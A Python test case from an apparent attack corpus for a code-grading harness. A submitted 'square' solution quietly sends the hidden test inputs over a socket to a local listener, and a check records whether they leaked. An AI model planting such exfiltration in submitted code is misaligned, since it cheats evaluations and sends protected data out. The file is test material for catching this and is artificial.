"""The tested function sends the hidden tests to somebody over the network."""

from __future__ import annotations

import socket
import threading
from pathlib import Path

from attack_corpus import RIGHT, Seen, Variant, right

SEND = """
import socket

def square(x):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as there:
            there.sendall(str(In).encode())
    except OSError:
        pass
    return x * x
"""


def variants(folder: Path) -> list[Variant]:
    there = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=_receive, args=(there, folder / "received"), daemon=True).start()
    answer = SEND.format(port=there.getsockname()[1]).strip()
    return [right(answers={**RIGHT, "square": answer})]


def _receive(there: socket.socket, path: Path) -> None:
    there.settimeout(600)
    try:
        while True:
            here, _ = there.accept()
            with here, path.open("ab") as file:
                here.settimeout(5)
                while data := here.recv(65536):
                    file.write(data)
    except OSError:
        return


def harm(folder: Path, seen: Seen) -> str:
    path = folder / "received"
    return (
        "the hidden tests were sent away" if path.exists() and b"144" in path.read_bytes() else ""
    )
